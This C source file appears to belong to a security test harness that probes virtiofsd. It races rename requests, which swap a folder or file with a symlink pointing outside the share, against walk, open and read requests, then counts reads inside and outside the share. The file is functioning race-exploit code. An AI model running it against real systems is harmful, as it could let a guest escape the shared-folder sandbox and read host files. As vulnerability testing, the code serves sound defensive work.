/* One request walks and opens while others swap what it walks through for a link that leads out. */
#define _GNU_SOURCE
#include "attacks.h"
#include "report.h"

#include <fcntl.h>
#include <stdio.h>
#include <string.h>

enum { SWAPS = 10000, SWAPPER = 1, WALKER = 2 };

/* `name` is by turns what is good and the link: four renames are two swaps. */
struct swapper {
  const char *name, *good, *link;
  struct request request;
  unsigned renames;
};

/* Walks to `path` (one or two names), opens, reads, forgets; one request at a time. */
struct walker {
  const char* path[2];
  unsigned step;
  struct request request;
  uint64_t nodes[2];
  unsigned inside, outside, refused;
};

static void swap(const struct target* target, struct swapper* swapper) {
  const char* const turns[4][2] = {{swapper->good, swapper->name},
                                   {swapper->name, swapper->good},
                                   {swapper->link, swapper->name},
                                   {swapper->name, swapper->link}};
  const char* const* turn = turns[swapper->renames++ % 4];
  swapper->request = (struct request){
      .operation = RENAME, .node = target->folder, .name = turn[0], .other = target->folder, .text = turn[1]};
  begin(target->protocol, SWAPPER, &swapper->request);
}

static unsigned names_of(const struct walker* walker) {
  return walker->path[1] ? 2 : 1;
}

/* Steps: the names, OPEN, READ, then FORGET of each node. */
static void next_step(const struct target* target, struct walker* walker, uint64_t handle) {
  const unsigned names = names_of(walker), step = walker->step;
  if (step < names)
    walker->request = (struct request){.operation = WALK,
                                       .node = step ? walker->nodes[step - 1] : target->folder,
                                       .name = walker->path[step]};
  else if (step == names)
    walker->request =
        (struct request){.operation = OPEN, .node = walker->nodes[names - 1], .number = O_RDONLY};
  else if (step == names + 1)
    walker->request = (struct request){.operation = READ, .node = walker->nodes[names - 1], .handle = handle};
  else
    walker->request = (struct request){.operation = FORGET, .node = walker->nodes[step - names - 2]};
  begin(target->protocol, WALKER, &walker->request);
}

static void forget_walked(const struct target* target, struct walker* walker, unsigned walked) {
  for (unsigned i = 0; i < walked; ++i) {
    struct answer answer;
    const struct request forget = {.operation = FORGET, .node = walker->nodes[i]};
    ask(target->protocol, &forget, &answer);
  }
  walker->step = 0;
}

static void take_step(const struct target* target, struct walker* walker) {
  struct answer answer;
  const unsigned names = names_of(walker);
  const int error = end(target->protocol, WALKER, &walker->request, &answer);
  if (error) {
    ++walker->refused;
    forget_walked(target, walker, walker->step < names ? walker->step : names);
  } else {
    if (walker->step < names) walker->nodes[walker->step] = answer.node;
    if (walker->step == names + 1) {
      if (memmem(answer.data, answer.size, "inside", 6))
        ++walker->inside;
      else if (answer.size)
        ++walker->outside;
    }
    if (++walker->step == names + 2) forget_walked(target, walker, names);
  }
  next_step(target, walker, answer.handle);
}

static void race(const struct target* target, const char* attack, struct swapper swapper,
                 struct walker walker) {
  struct answer answer;
  uint64_t node;
  /* virtiofsd renames only what it has been asked for. */
  if (walk(target, target->folder, swapper.good, &node) || walk(target, target->folder, swapper.link, &node))
    give_up("two to swap");
  swap(target, &swapper);
  next_step(target, &walker, 0);
  while (swapper.renames < SWAPS * 2) {
    if (is_ended(SWAPPER)) {
      const int error = end(target->protocol, SWAPPER, &swapper.request, &answer);
      if (error) {
        report(attack, "error %d of rename %u", error, swapper.renames);
        break;
      }
      swap(target, &swapper);
    }
    if (is_ended(WALKER)) take_step(target, &walker);
  }
  end(target->protocol, SWAPPER, &swapper.request, &answer);
  end(target->protocol, WALKER, &walker.request, &answer);
  report(attack, "swaps %u inside %u outside %u refused %u", swapper.renames / 2, walker.inside,
         walker.outside, walker.refused);
}

/* The links are there from attack_by_links(). */
void attack_by_races(const struct target* target) {
  race(target, "race of folders", (struct swapper){.name = "turn", .good = "folder", .link = "process-root"},
       (struct walker){.path = {"turn", "inside"}});
  race(target, "race of files", (struct swapper){.name = "turn-file", .good = "file", .link = "process-file"},
       (struct walker){.path = {"turn-file", NULL}});
}
